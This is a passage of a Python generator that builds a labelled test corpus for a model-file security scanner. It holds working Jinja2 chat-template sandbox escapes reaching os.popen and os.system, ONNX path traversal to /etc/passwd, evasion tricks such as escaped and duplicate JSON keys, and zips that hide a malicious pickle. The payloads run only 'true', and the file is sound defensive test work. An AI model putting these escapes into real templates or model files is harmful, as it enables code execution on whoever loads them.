        "external_data_dotdot_traversal.onnx",
        onnx_model("../../../../etc/passwd"),
        "external_data.location walks out of the model folder with ../",
        "malicious",
        "CVE-2022-25882",
    )
    add(
        "external_data_absolute_path.onnx",
        onnx_model("/etc/passwd"),
        "external_data.location is an absolute path",
        "malicious",
        "CVE-2022-25882",
    )
    add(
        "external_data_subdir_dotdot.onnx",
        onnx_model("subdir/../../../etc/passwd"),
        "'dir/../..' form that got past the first traversal fix",
        "malicious",
        "CVE-2024-27318",
    )
    add(
        "custom_op_domain.onnx",
        onnx_model(custom_domain="com.example.native"),
        "node in a non-standard op domain (needs a native custom-op library)",
        "suspicious",
    )


# --------------------------------------------------------------------------------------------
# Plain files that every checkpoint folder has
# --------------------------------------------------------------------------------------------


def plain(c: Corpus) -> None:
    import numpy as np

    def add(name: str, blob: bytes, fmt: str, technique: str) -> None:
        c.add(f"plain/{name}", blob, fmt=fmt, technique=technique, expected="clean")

    config = {
        "architectures": ["LlamaForCausalLM"],
        "hidden_size": 8,
        "num_attention_heads": 2,
        "torch_dtype": "float32",
        "model_type": "llama",
    }
    add("config.json", json.dumps(config, indent=2).encode(), "json", "HF config.json")
    tok = {
        "version": "1.0",
        "added_tokens": [{"id": 0, "content": "<s>", "special": True}],
        "model": {"type": "BPE", "vocab": {"<s>": 0, "h": 1, "i": 2, "hi": 3}, "merges": ["h i"]},
    }
    add("tokenizer.json", json.dumps(tok, indent=2).encode(), "json", "HF tokenizer.json")
    add(
        "generation_config.json",
        json.dumps({"do_sample": False, "max_new_tokens": 16}).encode(),
        "json",
        "HF generation_config.json",
    )
    add("README.md", b"# tiny\n\nA corpus model card.\n", "text", "model card")
    add(
        "raw_tensor_bytes.bin",
        np.linspace(0, 1, 256, dtype=np.float32).tobytes(),
        "raw",
        "raw float32 tensor bytes under a .bin name: no scanner applies",
    )


# --------------------------------------------------------------------------------------------
# Chat templates outside GGUF (tokenizer_config.json, chat_template.json, .jinja / .j2)
# --------------------------------------------------------------------------------------------

LLAMA3_STYLE = (
    "{{ bos_token }}{% for message in messages %}"
    "{{ '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' }}"
    "{{ message['content'] | trim }}{{ '<|eot_id|>' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)
SSTI_SUBCLASSES = (
    "{% for x in ().__class__.__base__.__subclasses__() %}"
    "{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('true').read() }}"
    "{% endif %}{% endfor %}"
)


def tokenizer_config(template: object) -> bytes:
    config = {
        "add_bos_token": True,
        "bos_token": "<s>",
        "eos_token": "</s>",
        "model_max_length": 4096,
        "tokenizer_class": "LlamaTokenizerFast",
        "chat_template": template,
    }
    return json.dumps(config, indent=2).encode()


def chat_template_files(c: Corpus) -> None:
    def add(name: str, blob: bytes, technique: str, expected: str, ref: str | None = None) -> None:
        c.add(
            f"chat_template/{name}",
            blob,
            fmt="chat-template",
            technique=technique,
            expected=expected,
            reference=ref,
            notes="payload runs `true` if rendered by an unsandboxed jinja2.Environment"
            if expected == "malicious"
            else "",
        )

    add(
        "tokenizer_config_chatml_benign.json",
        tokenizer_config(CHATML),
        "tokenizer_config.json with an ordinary ChatML chat_template",
        "clean",
    )
    add(
        "tokenizer_config_ssti_subclasses.json",
        tokenizer_config(SSTI_SUBCLASSES),
        "chat_template SSTI via ().__class__.__base__.__subclasses__() in tokenizer_config.json",
        "malicious",
        "CVE-2024-34359",
    )
    add(
        "tokenizer_config_named_tool_use_escape.json",
        tokenizer_config(
            [
                {"name": "default", "template": CHATML},
                {"name": "tool_use", "template": "{{ lipsum.__globals__.os.popen('true') }}"},
            ]
        ),
        "list of {name, template}: a benign default, the escape in the tool_use variant",
        "malicious",
        "CVE-2024-34359",
    )
    escaped = (
        tokenizer_config(CHATML)
        .replace(b'"chat_template"', b'"chat\\u005ftemplate"')
        .replace(json.dumps(CHATML).encode(), json.dumps(SSTI_SUBCLASSES).encode())
    )
    add(
        "tokenizer_config_escaped_key.json",
        escaped,
        "key written chat\\u005ftemplate: json decodes it to chat_template, a substring search "
        "for the key misses it",
        "malicious",
        "CVE-2024-34359",
    )
    evil, benign = json.dumps(SSTI_SUBCLASSES), json.dumps(CHATML)
    add(
        "tokenizer_config_duplicate_key.json",
        f'{{"bos_token": "<s>", "chat_template": {evil}, "chat_template": {benign}}}'.encode(),
        "chat_template given twice: Python's json keeps the benign last copy, a first-wins "
        "reader renders the escape",
        "malicious",
        "CVE-2024-34359",
    )
    add(
        "chat_template_attr_filter.json",
        json.dumps({"chat_template": "{{ ()|attr('__class__')|attr('__base__') }}"}).encode(),
        "chat_template.json (processor template file) with dunders behind |attr",
        "malicious",
    )
    add("chat_template_benign.jinja", LLAMA3_STYLE.encode(), "Llama-3 style .jinja", "clean")
    add(
        "chat_template_cycler_globals.jinja",
        b"{{ cycler.__init__.__globals__.os.popen('true').read() }}",
        "chat_template.jinja with the cycler.__init__.__globals__.os escape",
        "malicious",
        "CVE-2024-34359",
    )
    add(
        "prompt_joiner_builtins.J2",
        b"{{ joiner.__init__.__globals__['__builtins__']['__import__']('os').system('true') }}",
        "standalone .J2 template (upper-case extension) with the joiner builtins escape",
        "malicious",
    )
    add(
        "chat_template_include.jinja",
        b"{% include 'other.jinja' %}{{ messages[0]['content'] }}",
        "template that loads another template ({% include %}): nothing a chat template needs",
        "suspicious",
    )
    add(
        "tokenizer_config_unparseable_template.json",
        tokenizer_config("{% for message in messages %}{{ message['content'] }}"),
        "chat_template that Jinja2 cannot parse (unclosed for)",
        "malformed",
    )


# --------------------------------------------------------------------------------------------
# Keras: where names resolve, and what rides along in a .keras archive
# --------------------------------------------------------------------------------------------


def keras_with(config: bytes, extra: list[tuple[str, bytes]]) -> bytes:
    meta = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode()
    members = [
        ("metadata.json", meta),
        ("config.json", config),
        ("model.weights.h5", _h5(_weights)),
    ]
    return npz([*members, *extra])


def keras_reach(c: Corpus) -> None:
    def add(name: str, blob: bytes, technique: str, expected: str, ref: str | None = None) -> None:
        c.add(
            f"keras/{name}",
            blob,
            fmt="keras",
            technique=technique,
            expected=expected,
            reference=ref,
            notes="payload shape ours" if expected != "clean" else "false-positive trap",
        )

    tf_dense = _k3_dense()
    tf_dense["module"] = "tensorflow.keras.layers"
    add(
        "tensorflow_keras_module_benign.keras",
        keras_archive(_k3_model([tf_dense])),
        "layer module tensorflow.keras.layers: TensorFlow's re-export of Keras, not an import",
        "clean",
    )
    relu = {"module": "builtins", "class_name": "function", "config": "relu"}
    relu_dense = _k3_dense()
    relu_dense["config"]["activation"] = relu  # type: ignore[index]
    add(
        "builtins_function_relu_benign.keras",
        keras_archive(_k3_model([relu_dense])),
        "activation {module: builtins, class_name: function, config: relu}: Keras resolves it "
        "in its own activations",
        "clean",
    )
    noted = _k3_dense()
    noted["config"]["description"] = "keras.utils.get_file"  # type: ignore[index]
    add(
        "get_file_in_layer_setting.keras",
        keras_archive(_k3_model([noted])),
        "keras.utils.get_file named in a layer setting Keras does not resolve (inert to Keras, "
        "live for a custom from_config)",
        "suspicious",
        "CVE-2025-8747",
    )
    add(
        "script_member_upper_case.keras",
        keras_with(_k3_model([]), [("RUN.PY", b"import os\nos.system('true')\n")]),
        "archive member RUN.PY (upper-case extension) that Keras never reads",
        "suspicious",
    )
    add(
        "elf_member_in_assets.keras",
        keras_with(_k3_model([]), [("assets/libhelper.dat", b"\x7fELF\x02\x01\x01" + bytes(57))]),
        "ELF executable under assets/ with a harmless-looking name",
        "suspicious",
    )


# --------------------------------------------------------------------------------------------
# Encrypted zips: refused in model archives, unsupported when no model is inside
# --------------------------------------------------------------------------------------------


def encrypted_zips(c: Corpus) -> None:
    sys.path.insert(0, str(HERE.parent.parent))  # the repository root, for tests.zipcrypto
    from tests.zipcrypto import encrypted_zip

    password = b"corpus"
    c.add(
        "compressed/encrypted_documents.zip",
        encrypted_zip([("notes.txt", b"meeting at noon\n"), ("plan.md", b"# Plan\n")], password),
        fmt="zip",
        technique="ZipCrypto-encrypted zip of documents, no model file inside",
        expected="unsupported",
        notes="password 'corpus'; the scanner cannot read it and says so",
    )
    c.add(
        "compressed/encrypted_pickle_member.zip",
        encrypted_zip([("model.pkl", malicious_p(2))], password),
        fmt="zip",
        technique="ZipCrypto-encrypted model.pkl: an encrypted model archive stays refused",
        expected="malformed",
        reference="CVE-2025-1945",
        notes="really encrypted (password 'corpus'): read as a flag-ignoring loader reads it, "
        "the ciphertext is no pickle and fails its CRC",
    )
    c.add(
        "compressed/encryption_flag_plain_pickle_any_name.zip",
        build_zip([ZMember("notes.txt", malicious_p(2), flags=0x1)], align=0),
        fmt="zip",
        technique="encryption flag over a plain malicious pickle named notes.txt (zipfile "
        "refuses; a flag-ignoring reader gets the pickle)",
        expected="malicious",
        reference="CVE-2025-1945",
    )


# --------------------------------------------------------------------------------------------
# TensorFlow, NeMo, skops, TorchScript and the recognised-but-unsupported formats
# (tests/assets/model_formats.py, beside this file)
# --------------------------------------------------------------------------------------------


def model_format_files(c: Corpus) -> None:
    if str(HERE.parents[1]) not in sys.path:  # run as a script: make `tests.assets` importable
        sys.path.insert(0, str(HERE.parents[1]))
    from tests.assets import model_formats

    kit = model_formats.Kit(
        zip_of=npz,
        tar_of=tar_bytes,
        benign_torch_zip=build_zip(torch_zip_members(state_dict_pickle())),
        malicious_torch_zip=build_zip(torch_zip_members(malicious_p(2))),
        npy_f32=lambda shape: npy_header("<f4", shape) + b"\0" * (4 * _prod(shape)),
    )
    model_formats.tensorflow(c)
    model_formats.nemo(c, kit)
    model_formats.hydra(c)
    model_formats.skops(c, kit)
    model_formats.torchscript(c, kit)
    model_formats.unsupported(c)


# --------------------------------------------------------------------------------------------
# Driver
# --------------------------------------------------------------------------------------------

BUILDERS: list[Callable[[Corpus], None]] = [
    pickles,
    pickle_gadgets,
    pickles_benign,
    pickle_evasions,
    containers,
    safetensors,
    gguf_files,
    keras,
    onnx_files,
    model_format_files,
    plain,
    chat_template_files,
    keras_reach,
    encrypted_zips,
]


def build() -> Corpus:
    c = Corpus()
    for b in BUILDERS:
        b(c)
    total = sum(len(s.data) for s in c.samples)
    if total > MAX_CORPUS_BYTES:
        raise SystemExit(f"corpus is {total} bytes, over the {MAX_CORPUS_BYTES} budget")
    return c


def write(c: Corpus, out: Path) -> None:
    for s in c.samples:
        target = out / s.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(s.data)
    manifest = [s.manifest_entry() for s in c.samples]
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")


def _files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}


def check(c: Corpus, out: Path) -> int:
    with tempfile.TemporaryDirectory() as tmp:
        fresh = Path(tmp)
        write(c, fresh)
        want, have = _files(fresh), _files(out) if out.is_dir() else set()
        problems = [f"missing: {p}" for p in sorted(want - have)]
        problems += [f"unexpected: {p}" for p in sorted(have - want)]
        for p in sorted(want & have):
            if not filecmp.cmp(fresh / p, out / p, shallow=False):
                problems.append(f"differs: {p}")
    if problems:
        print(f"corpus at {out} is out of date ({len(problems)} problems):", file=sys.stderr)
        for line in problems:
            print(f"  {line}", file=sys.stderr)
        print(
            "regenerate with: python tests/assets/generate.py --write  (library-produced "
            "samples - numpy/joblib pickles, HDF5, ONNX, 7z, marshal - depend on versions)",
            file=sys.stderr,
        )
        return 1
    print(f"corpus at {out} is up to date ({len(c.samples)} samples)")
    return 0


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    ap.add_argument("--out", type=Path, default=DEFAULT_OUT, help="corpus directory")
    mode = ap.add_mutually_exclusive_group()
    mode.add_argument("--write", action="store_true", help="(re)write the corpus and manifest")
    mode.add_argument("--check", action="store_true", help="compare only (the default)")
    args = ap.parse_args(argv)
    corpus = build()
    out: Path = args.out
    if not args.write:
        return check(corpus, out)
    if out.exists():
        if any(out.iterdir()) and not (out / "manifest.json").is_file():
            print(f"refusing to clear {out}: it has files but no manifest.json", file=sys.stderr)
            return 2
        shutil.rmtree(out)
    out.mkdir(parents=True)
    write(corpus, out)
    size = sum(len(s.data) for s in corpus.samples)
    print(f"wrote {len(corpus.samples)} samples ({size} bytes) and manifest.json to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
